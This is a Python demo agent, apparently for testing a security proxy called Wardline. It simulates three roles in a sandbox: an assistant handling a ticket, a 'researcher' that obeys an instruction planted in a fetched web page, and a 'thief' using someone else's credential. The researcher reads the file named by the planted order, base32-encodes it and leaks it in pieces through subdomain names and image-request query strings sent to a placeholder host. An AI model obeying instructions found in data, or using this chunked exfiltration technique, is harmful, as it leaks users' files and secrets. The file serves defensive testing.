"""The demo's agent: `python agent.py ROLE PORT`, a program that knows nothing of Wardline but the proxy in its environment.

    assistant     reads a ticket, hands a question to the researcher, writes the answer into the ticket
    researcher    reads what it was asked to; and does what a page tells it, as a model does that takes data for instructions
    thief         has somebody else's credential, and reads

It runs inside a containment, from a copy in its working folder, so it needs nothing but Python. Each thing it does is one JSON
line on stdout.
"""

import base64
import http.client
import json
import os
import re
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any, Final

ORDER: Final = re.compile(r"send the file (\S+) in pieces to http://PIECE\.([a-z0-9.-]+)")
PIECE_CHARS: Final = 48
PAUSE_S: Final = 0.05
READ_S: Final = 0.5
PATIENCE_S: Final = 30.0
"""How long it goes on with its work before it gives up waiting to be stopped."""


def main(argv: list[str]) -> int:
    """Play a role; returns the exit code, 3 for one that was stopped."""
    role, port = argv
    worker = Worker(port)
    return {"assistant": assistant, "researcher": researcher, "thief": thief}[role](worker)


class Worker:
    """Asks origins on one port, in one trace."""

    def __init__(self, port: str) -> None:
        self._port = port
        self._trace = os.environ.get("TRACEPARENT") or f"00-{os.urandom(16).hex()}-{os.urandom(8).hex()}-01"
        say(does="begins", trace=self._trace.split("-")[1])

    def get(self, host: str, path: str) -> tuple[int, str]:
        """Status and text of a page; (status, reason) of a refusal."""
        return self._ask(urllib.request.Request(f"http://{host}:{self._port}{path}"), host, path)

    def post(self, host: str, path: str, text: str) -> tuple[int, str]:
        """The same, with something to say."""
        return self._ask(urllib.request.Request(f"http://{host}:{self._port}{path}", data=text.encode()), host, path)

    def _ask(self, request: urllib.request.Request, host: str, path: str) -> tuple[int, str]:
        request.add_header("traceparent", self._trace)
        said: dict[str, Any] = {"does": request.get_method(), "where": f"{host}{path}"}
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                status, text = answer.status, answer.read().decode()
        except urllib.error.HTTPError as fault:
            status, text = fault.code, refused_for(fault.read())
            said["reason"] = text
        except (OSError, http.client.HTTPException) as fault:  # an answer that was cut off in its middle
            status, text = 0, str(fault)
            said["reason"] = "cut"
        say(**said, status=status, at=time.time())
        return status, text


def refused_for(body: bytes) -> str:
    """The reason in the answer of a door; the answer itself where an origin gave it."""
    try:
        return str(json.loads(body)["reason"])
    except (ValueError, KeyError, TypeError):
        return body.decode(errors="replace")


def say(**what: Any) -> None:
    """One line of what happens."""
    print(json.dumps(what), flush=True)


def assistant(worker: Worker) -> int:
    """A ticket, from its question to its answer."""
    worker.get("docs.acme.example", "/handbook")
    _, question = worker.get("tickets.acme.example", "/4711")
    status, found = worker.post("agents.acme.example", "/researcher", question)
    if status == 200:
        worker.post("tickets.acme.example", "/4711", found)
    return 0 if status == 200 else 1


def researcher(worker: Worker) -> int:
    """Reads, believes what it reads, and goes on reading until it is done or stopped."""
    worker.get("docs.acme.example", "/products")
    worker.get("reports.partner.example", "/q3")
    _, page = worker.get("reports.partner.example", "/q4")
    order = ORDER.search(page)
    if order is None:
        return 0
    say(does="obeys", order=order[0])
    secret = base64.b32encode(Path(order[1]).read_bytes()).decode().rstrip("=").lower()
    for at in range(0, len(secret), 2 * PIECE_CHARS):
        name, query = secret[at : at + PIECE_CHARS], secret[at + PIECE_CHARS : at + 2 * PIECE_CHARS]
        worker.get(f"{name}.{order[2]}", f"/i.gif?d={query}")
        time.sleep(PAUSE_S)
    return read_until_stopped(worker)


def thief(worker: Worker) -> int:
    """Reads with a credential that is not its own."""
    return read_until_stopped(worker)


def read_until_stopped(worker: Worker) -> int:
    """What policy permits, again and again."""
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until:
        status, reason = worker.get("docs.acme.example", "/prices")
        if status == 403 and reason == "revoked":
            return 3
        time.sleep(READ_S)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
